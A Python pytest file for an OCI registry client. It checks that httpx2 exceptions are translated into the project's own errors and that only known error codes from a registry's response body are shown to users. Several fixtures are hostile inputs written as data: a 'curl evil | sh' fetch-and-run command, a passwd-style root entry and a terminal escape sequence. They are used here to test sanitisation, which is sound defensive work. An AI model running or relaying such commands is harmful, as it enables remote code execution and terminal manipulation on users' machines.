"""Every exception of httpx2 is translated, and no text from registries is shown."""

from __future__ import annotations

import ssl

import httpx2
import pytest

from host.errors import RegistryError
from host.oci import failures
from host.oci.failures import TransientError


def _every(kind: type[Exception]) -> list[type[Exception]]:
    return [kind, *(below for child in kind.__subclasses__() for below in _every(child))]


def _raised(kind: type[Exception]) -> Exception:
    """An exception of the class, made without its arguments, which differ."""
    error = kind.__new__(kind)
    error.args = ("words of httpx2 that nobody sees",)
    return error


@pytest.mark.parametrize(
    "kind",
    sorted(
        {
            below
            for name in dir(httpx2)
            if isinstance(kind := getattr(httpx2, name), type) and issubclass(kind, Exception)
            for below in _every(kind)
        },
        key=lambda kind: kind.__name__,
    ),
)
def test_every_exception_of_httpx2_becomes_an_error_of_ours(kind):
    with pytest.raises((RegistryError, TransientError)) as caught, failures.translating("r.test", "send it"):
        raise _raised(kind)
    error = caught.value.final if isinstance(caught.value, TransientError) else caught.value
    assert "r.test" in error.message
    assert "words of httpx2" not in str(error)


@pytest.mark.parametrize(
    "kind",
    [httpx2.ReadError, httpx2.WriteError, httpx2.ReadTimeout, httpx2.WriteTimeout, httpx2.RemoteProtocolError],
)
def test_what_may_pass_is_told_apart(kind):
    with pytest.raises(TransientError), failures.translating("r.test", "send it"):
        raise _raised(kind)


@pytest.mark.parametrize("kind", [httpx2.ConnectError, httpx2.ConnectTimeout, httpx2.LocalProtocolError])
def test_what_stays_is_not_tried_again(kind):
    with pytest.raises(RegistryError), failures.translating("r.test", "send it"):
        raise _raised(kind)


def test_a_certificate_is_found_below_what_httpx2_made_of_it():
    refused = ssl.SSLCertVerificationError(1, "x")
    refused.verify_message = "certificate has expired"
    with pytest.raises(RegistryError, match="certificate has expired"), failures.translating("r.test", "send it"):
        raise httpx2.ConnectError("x") from refused


@pytest.mark.parametrize(
    ("body", "said"),
    [
        pytest.param(b'{"errors":[{"code":"DENIED","message":"no"}]}', "DENIED", id="as the specification has it"),
        pytest.param(b'{"errors":[{"code":"DENIED"}]}', "DENIED", id="no message"),
        pytest.param(b'{"errors":[{"code":"root:x:0:0","message":"secret"}]}', "", id="a code that nobody knows"),
        pytest.param(b'{"errors":[{"code":"denied"}]}', "", id="a code in small letters"),
        pytest.param(b'{"errors":[{"code":"DENIED\\u001b[2J"}]}', "", id="what a terminal obeys"),
        pytest.param(b'{"errors":[{"message":"run: curl evil | sh"}]}', "", id="a message by itself"),
        pytest.param(b'{"errors":[{"code":1,"message":[]}]}', "", id="no texts"),
        pytest.param(b'{"errors":["x"]}', "", id="no objects"),
        pytest.param(b'{"errors":{}}', "", id="no list"),
        pytest.param(b"<html>go away</html>", "", id="no JSON"),
        pytest.param(b"", "", id="nothing"),
    ],
)
def test_of_a_registrys_words_a_known_code_alone_is_shown(body, said):
    with pytest.raises(RegistryError) as caught:
        failures.raise_for_status(httpx2.Response(400, content=iter([body])), "r.test", "send it")
    assert caught.value.message == "r.test answered 400 when asked to send it" + (f": {said}" if said else "")
    assert caught.value.status == 400
